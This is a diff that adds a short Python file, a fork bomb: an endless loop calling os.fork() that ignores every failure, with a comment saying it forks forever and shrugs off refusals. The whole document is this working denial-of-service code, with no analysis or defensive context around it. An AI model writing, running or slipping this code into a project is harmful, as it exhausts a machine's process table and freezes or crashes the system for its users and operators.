@@ -1,0 +1,7 @@
+# Forks for ever and shrugs off every refusal.
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
